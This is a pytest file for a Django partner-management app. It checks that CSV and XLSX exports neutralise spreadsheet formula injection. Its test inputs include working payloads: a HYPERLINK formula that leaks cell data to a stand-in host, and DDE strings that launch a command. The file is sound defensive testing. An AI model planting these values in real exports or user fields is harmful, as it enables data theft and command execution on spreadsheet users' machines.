"""CSV/XLSX formula injection (issue 8, item 5): every export neutralises typed text that a spreadsheet would run.

Each export below is fed one hostile value in a text field a partner or a person typed (a partner's name or
legal name, a signer's typed name, a tier-review reason) and must write it with the leading apostrophe of
`openprm.lib.tables.safe_cell` (CSV) or as a text cell (XLSX). Numbers, including negative amounts, stay numbers.
A guard test keeps every future export on the one writer.
"""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from conftest import client_for
from openprm.partners.models import Partner, Stage

# Every way a cell can start a formula in Excel, LibreOffice or Google Sheets.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
]


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def _assert_neutralised(rows, hostile):
    cells = [cell for row in rows for cell in row]
    assert "'" + hostile in cells, f"the hostile value is missing or not neutralised: {rows!r}"
    assert hostile not in cells, f"the hostile value went out raw: {rows!r}"


@pytest.fixture
def hostile_acme(acme):
    def make(value):
        Partner.objects.filter(pk=acme.pk).update(name=value, legal_name=value, stage=Stage.ACTIVE)
        acme.refresh_from_db()
        return acme

    return make


@pytest.mark.parametrize("hostile", HOSTILE)
def test_payout_csv(hostile, hostile_acme, finance_user):
    from openprm.commissions.api import payout_csv
    from openprm.commissions.models import Payout, PayoutItem

    acme = hostile_acme(hostile)
    payout = Payout.objects.create(currency="USD", up_to=timezone.localdate(), created_by=finance_user)
    PayoutItem.objects.create(payout=payout, partner=acme, amount=Decimal("-12.50"))
    rows = _rows(payout_csv(payout))
    assert rows[1][2] == "'" + hostile and rows[1][3] == "'" + hostile  # name and legal name
    assert rows[1][4] == "-12.50"  # an amount stays a parseable number at the currency's decimals, never "'-12.50"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_agreements_csv(hostile, hostile_acme, channel_manager):
    from openprm.agreements import services
    from openprm.agreements.models import Agreement

    acme = hostile_acme(hostile)
    agreement = services.create_agreement(actor=channel_manager, partner=acme, data={
        "kind": "reseller", "starts_on": timezone.localdate().isoformat(), "territories": ["US"]})
    # Test shortcut: the typed signer name as the signing service stores it.
    Agreement.objects.filter(pk=agreement.pk).update(signer_name=hostile, signed_at=timezone.now())
    rows = _rows(client_for(channel_manager).get("/console/agreements/?format=csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("partner")] == "'" + hostile
    assert row[header.index("signer_name")] == "'" + hostile


@pytest.mark.parametrize("hostile", HOSTILE)
def test_tier_review_csv(hostile, hostile_acme, vendor_admin):
    from openprm.programs.models import TierProposal, TierReview

    acme = hostile_acme(hostile)
    review = TierReview.objects.create(as_of=timezone.localdate(), currency="USD", created_by=vendor_admin,
                                       partner_count=1)
    TierProposal.objects.create(review=review, partner=acme, score=Decimal("0"), rank=1, current_tier="bronze",
                                percentile_tier="bronze", proposed_tier="bronze", reason=hostile)
    rows = _rows(client_for(vendor_admin).get(f"/console/program/reviews/{review.pk}/?format=csv"))
    header, row = rows[0], rows[1]
    assert row[header.index("partner")] == "'" + hostile
    assert row[header.index("reason")] == "'" + hostile


@pytest.mark.parametrize("hostile", HOSTILE)
def test_partner_list_and_audit_csv(hostile, hostile_acme, vendor_admin):
    hostile_acme(hostile)
    client = client_for(vendor_admin)
    _assert_neutralised(_rows(client.get("/console/partners/?format=csv")), hostile)
    from openprm.partners import services

    services.update_partner(actor=vendor_admin, partner=Partner.objects.get(name=hostile),
                            data={"description": "changed"})
    audit = _rows(client.get("/console/audit/?format=csv"))
    header = audit[0]
    assert "'" + hostile in [row[header.index("partner")] for row in audit[1:]]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_statement_and_ledger_csv_and_xlsx(hostile, hostile_acme, vendor_admin, finance_user):
    from openprm.commissions import exports, services
    from openprm.commissions.models import LedgerLine
    from openprm.commissions.periods import period_key
    from openprm.commissions.statements import statement

    acme = hostile_acme(hostile)
    services.award_reward(actor=vendor_admin, partner=acme, amount=Decimal("100.00"), currency="USD",
                          reason=hostile)
    period = period_key("quarter", timezone.localdate())
    statements = statement(partner=acme, period=period)
    _assert_neutralised(_rows(exports.statement_csv(partner=acme, period=period, statements=statements)), hostile)
    _assert_neutralised(_rows(exports.ledger_csv(LedgerLine.objects.filter(partner=acme))), hostile)
    workbook = load_workbook(io.BytesIO(exports.statement_xlsx(partner=acme, period=period,
                                                               statements=statements).content))
    _assert_text_cells(workbook, hostile)


def _assert_text_cells(workbook, hostile):
    """XLSX keeps the typed text as it is, in a text cell (never a formula). XML reads CR back as LF."""
    texts = [c for row in workbook.worksheets[0].iter_rows() for c in row
             if isinstance(c.value, str) and c.value.strip() == hostile.strip()]
    assert texts and all(c.data_type == "s" for c in texts)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_registration_exports(hostile, hostile_acme, acme_rep, channel_manager):
    from openprm.deals import services

    acme = hostile_acme("Acme Systems")
    registration = services.register(actor=acme_rep, partner=acme, data={
        "customer_name": hostile, "customer_domain": "hostile.example", "customer_country": "US",
        "amount": "1000.00", "currency": "USD",
        "expected_close_date": (timezone.localdate() + timedelta(days=30)).isoformat()})
    stored = registration.customer_name  # the service strips surrounding white space
    client = client_for(channel_manager)
    _assert_neutralised(_rows(client.get("/console/deals/?format=csv")), stored)
    _assert_text_cells(load_workbook(io.BytesIO(client.get("/console/deals/?format=xlsx").content)), stored)


def test_safe_cell_keeps_numbers_and_dates_and_neutralises_text():
    from datetime import date

    from openprm.lib.tables import safe_cell

    assert safe_cell(Decimal("-12.50")) == Decimal("-12.50")
    assert safe_cell(-3) == -3
    assert safe_cell(date(2001, 2, 3)) == "2001-02-03"
    assert safe_cell(None) == ""
    assert safe_cell("plain") == "plain"
    for value in HOSTILE:
        assert safe_cell(value) == "'" + value
    assert safe_cell("-12.50") == "'-12.50"  # text that looks like a number is still text someone typed


def test_every_export_writes_through_the_one_safe_writer():
    """A new export cannot forget the formula guard: only openprm/lib/tables.py may build CSV or XLSX writers."""
    root = Path(__file__).resolve().parent.parent / "openprm"
    offenders = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        if relative == "lib/tables.py" or "/tests/" in f"/{relative}":
            continue
        for number, line in enumerate(path.read_text().splitlines(), start=1):
            if re.search(r"csv\.(writer|DictWriter)\(|\bWorkbook\(", line):
                offenders.append(f"openprm/{relative}:{number}: {line.strip()}")
    assert not offenders, ("write exports through openprm.lib.tables (csv_writer, csv_download, xlsx_download, "
                           "append_row), which neutralise formulas:\n" + "\n".join(offenders))
